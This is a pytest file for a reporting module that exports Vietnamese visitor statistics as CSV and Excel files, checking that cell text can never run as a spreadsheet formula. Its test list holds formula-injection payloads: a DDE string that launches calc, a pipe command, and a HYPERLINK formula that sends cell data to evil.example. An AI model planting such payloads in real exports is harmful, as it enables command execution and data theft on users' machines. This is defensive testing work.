"""Exports that a spreadsheet opens as what they are, and never as a program."""

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from visitors.reports import export
from visitors.reports.export import BOM, Column, Table, csv_lines, safe_text, write_xlsx

COLUMNS = [Column("Ngày", "date"), Column("Tiêu đề"), Column("Lượt xem", "number"), Column("Tỷ lệ", "share")]
ROW = (date(2026, 11, 5), "Lễ hội đình làng", 1336, 0.125)
FORMULAS = [
    "=1+1",
    "+84 24 3825 3536",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width forms, which Excel in East Asian languages calculates
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    "\u22121+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "%0A=1",
    "|calc",
]


def read_csv(table: Table) -> list[list[str]]:
    """Return the rows of a CSV file as a spreadsheet reads them."""
    data = b"".join(csv_lines(table))
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(*tables: Table):
    """Return the workbook as openpyxl reads it."""
    file = io.BytesIO()
    write_xlsx(tables, file)
    return load_workbook(io.BytesIO(file.getvalue()))


def test_csv_keeps_vietnamese_and_writes_dates_and_numbers_for_machines():
    assert read_csv(Table("Ngày", COLUMNS, [ROW])) == [
        ["Ngày", "Tiêu đề", "Lượt xem", "Tỷ lệ"],
        ["2026-11-05", "Lễ hội đình làng", "1336", "0.125"],
    ]


def test_a_moment_is_that_of_its_zone():
    moment = datetime(2026, 11, 5, 0, 30, tzinfo=timezone(timedelta(hours=7)))
    table = Table("t", [Column("Lúc", "moment")], [(moment,)])
    assert read_csv(table)[1] == ["2026-11-05 00:30:00"]
    assert read_xlsx(table).active["A2"].value == datetime(2026, 11, 5, 0, 30)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_title_is_never_a_formula(text):
    table = Table("t", [Column("Tiêu đề")], [(text,)])
    cell = read_csv(table)[1][0]
    assert cell.startswith("'")
    found = read_xlsx(table).active["A2"]
    assert found.data_type == "s"
    assert found.quotePrefix


@pytest.mark.parametrize("text", ["Bài 1", "5 = 5", "a@b.vn", "“Đất” - nước", "", "1+1", "#1", "'đã có"])
def test_other_titles_are_left_as_they_are(text):
    assert safe_text(text) == text


@given(st.text())
def test_any_text_is_one_harmless_cell(text):
    rows = read_csv(Table("t", [Column("a"), Column("b")], [(text, "end")]))
    assert len(rows) == 2
    assert rows[1][1] == "end"
    assert not export.begins_formula(rows[1][0])


@settings(deadline=None, max_examples=30)  # a workbook takes milliseconds, on a busy machine many
@given(st.text(st.characters(codec=None, exclude_categories=()), max_size=60))
def test_any_text_makes_a_workbook(text):
    assert read_xlsx(Table(text, [Column(text)], [(text,)])).active["A2"].data_type in ("s", "n", "inlineStr")


def test_a_workbook_has_typed_cells_and_a_sheet_for_each_table():
    book = read_xlsx(
        Table("Ngày", COLUMNS, [ROW]), Table("Trang: [1]/2", COLUMNS, iter([ROW])), Table("ngày", COLUMNS, [])
    )
    assert book.sheetnames == ["Ngày", "Trang   1  2", "ngày 2"]
    day, title, views, share = book["Ngày"][2]
    assert (day.value, day.number_format) == (datetime(2026, 11, 5), "dd/mm/yyyy")
    assert (title.value, title.data_type) == ("Lễ hội đình làng", "s")
    assert (views.value, views.number_format) == (1336, "#,##0")
    assert (share.value, share.number_format) == (0.125, "0.0%")


def test_an_export_ends_at_a_bound_and_reads_no_further(monkeypatch):
    monkeypatch.setattr(export, "MOST_ROWS", 3)
    numbers = iter(range(10))
    table = Table("t", [Column("n", "number")], ((number,) for number in numbers))
    assert len(read_csv(table)) == 4
    assert next(numbers) in (3, 4)


def test_csv_is_written_while_it_is_read():
    seen = []

    def rows():
        for number in range(3):
            seen.append(number)
            yield (number,)

    lines = csv_lines(Table("t", [Column("n", "number")], rows()))
    next(lines), next(lines), next(lines)
    assert seen == [0]


def test_no_value_is_an_empty_cell():
    table = Table("t", [Column("a"), Column("b", "number")], [(None, None), ("x", datetime(2026, 1, 1, tzinfo=UTC))])
    assert read_csv(table)[1] == ["", ""]
    assert read_xlsx(Table("t", [Column("a")], [(None,)])).active["A2"].value is None
